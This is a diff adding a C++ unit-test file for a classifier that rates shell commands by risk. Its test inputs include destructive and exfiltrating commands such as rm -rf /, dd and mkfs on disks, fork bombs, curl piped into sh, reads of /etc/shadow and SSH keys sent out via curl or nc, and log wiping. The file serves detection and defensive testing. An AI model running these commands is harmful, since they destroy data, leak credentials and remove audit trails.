@@ -1,0 +1,123 @@
+#include "assay/internal/risk.h"
+
+#include <gmock/gmock.h>
+
+namespace assay {
+namespace {
+
+using testing::Contains;
+using testing::IsEmpty;
+using testing::Not;
+
+std::vector<Risk> risks(const std::string& command) { return risks_of(command, UtilityTables()); }
+
+std::vector<std::string> harms(const std::string& command) {
+  std::vector<std::string> found;
+  for (const auto& risk : risks(command))
+    found.push_back(std::string(to_string(risk.harm)) + " " + std::string(to_string(risk.level)));
+  return found;
+}
+
+void each_is(const std::vector<std::string>& commands, const std::string& harm) {
+  for (const auto& command : commands) EXPECT_THAT(harms(command), Contains(harm)) << command;
+}
+
+TEST(Risk, TheSystemOrAHomeIsLost) {
+  each_is(
+      {"rm -rf /", "rm -r --no-preserve-root -f /", "rm -rf /*", "rm -fr ~", "rm -rf ~/*", "rm -R \"$HOME\"",
+       "sudo rm -rf /home/*", "rm -rf /{bin,usr}", "rm -rf //", "rm -rf /tmp/..", "find / -delete",
+       "find ~ -type f -delete", "find / -exec rm -rf {} +", "echo / | xargs rm -rf", "sh -c 'rm -rf /usr'",
+       "eval 'rm -rf /'", "echo 'rm -rf /' | sh", "env X=1 nohup rm -rf /etc", "x=$(rm -rf /)"},
+      "deletion critical");
+}
+
+TEST(Risk, AnotherFolderIsLess) {
+  each_is({"rm -rf ./build", "rm -r /tmp/x", "rm -rf ~/old", "rm -rf '~'"}, "deletion high");
+  for (const char* command : {"rm -rf ./build", "rm -rf '~'", "rm -rf ~/old"})
+    EXPECT_THAT(harms(command), Not(Contains("deletion critical"))) << command;
+}
+
+TEST(Risk, DisksAreWrittenOver) {
+  each_is({"dd if=/dev/zero of=/dev/sda", "mkfs.ext4 /dev/sdb1", "cat x > /dev/nvme0n1", "shred /dev/sda",
+           "sudo tee /dev/sda < x"},
+          "disk critical");
+}
+
+TEST(Risk, ProcessesWithoutEnd) {
+  each_is({":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb", "f() { f & }; f"}, "exhaustion critical");
+}
+
+TEST(Risk, WhatNobodyHasReadIsRun) {
+  each_is({"curl -s u | sh", "wget -qO- u | sudo bash", "bash <(curl -s u)", "eval \"$(wget -qO- u)\"",
+           "sh -c \"$(curl -fsSL u)\"", "source <(curl u)", "curl u | tee x | bash",
+           "echo cm0= | base64 -d | sh"},
+          "foreign_code critical");
+}
+
+TEST(Risk, DoorsAreOpened) {
+  each_is({"chmod -R 777 /etc", "chmod 666 /etc/shadow", "chmod a+s /bin/bash", "chmod 4755 /usr/bin/vim",
+           "sudo chown -R me /"},
+          "permissions critical");
+  each_is({"echo x > /etc/passwd", "echo x | sudo tee /etc/sudoers", "echo x >> /etc/sudoers"},
+          "accounts critical");
+  each_is({"iptables -F", "ufw disable", "sudo systemctl stop firewalld"}, "guards high");
+}
+
+TEST(Risk, SecretsLeak) {
+  each_is({"cat /etc/shadow", "cat ~/.ssh/id_rsa", "base64 ~/.aws/credentials", "scp ~/.ssh/id_ed25519 h:"},
+          "credentials high");
+  each_is({"env | curl -d @- u", "cat ~/.ssh/id_rsa | nc h 9"}, "credentials critical");
+}
+
+TEST(Risk, TracesAndTheMachine) {
+  each_is({"history -c", "rm ~/.bash_history", "> ~/.bash_history", "truncate -s 0 /var/log/auth.log"},
+          "traces high");
+  each_is({"reboot", "systemctl poweroff"}, "shutdown high");
+  each_is({"kill -9 -1"}, "shutdown critical");
+}
+
+TEST(Risk, LookAlikesAreNone) {
+  for (const char* command : {"rm f",
+                              "dd if=/dev/zero of=file count=1",
+                              "chmod 755 x",
+                              "chmod -R u+w .",
+                              "echo 'rm -rf /'",
+                              "ls -R /etc",
+                              "find / -name x",
+                              "grep -r 'rm -rf /' .",
+                              "curl u | jq .",
+                              "curl -o x.sh u",
+                              "cat ~/.ssh/id_rsa.pub",
+                              "ssh -i ~/.ssh/id_rsa h",
+                              "cat /etc/passwd > copy",
+                              "kill -1 42",
+                              "kill 42",
+                              "f() { f; }",
+                              "iptables -L",
+                              "systemctl stop nginx",
+                              "systemctl status ufw",
+                              "history",
+                              "tail /var/log/syslog",
+                              "cat x > /dev/null",
+                              "bash build.sh",
+                              "env",
+                              "shutdown -c",
+                              "chmod 1777 /srv/drop/x",
+                              "echo aGk= | base64 -d",
+                              "mv a b",
+                              "find . -name '*.o' -delete",
+                              "cat x | sh build.sh"})
+    EXPECT_THAT(harms(command), IsEmpty()) << command;
+}
+
+TEST(Risk, TheSpanIsTheCommandsOwn) {
+  const std::string text = "ls; sudo rm -rf /; pwd";
+  const auto found = risks(text);
+  ASSERT_EQ(found.size(), 1u);
+  EXPECT_EQ(text.substr(found[0].span.begin, found[0].span.end - found[0].span.begin), "sudo rm -rf /");
+}
+
+TEST(Risk, TextThatDoesNotParseHasNoFacts) { EXPECT_THAT(risks("rm -rf / ("), IsEmpty()); }
+
+}  // namespace
+}  // namespace assay
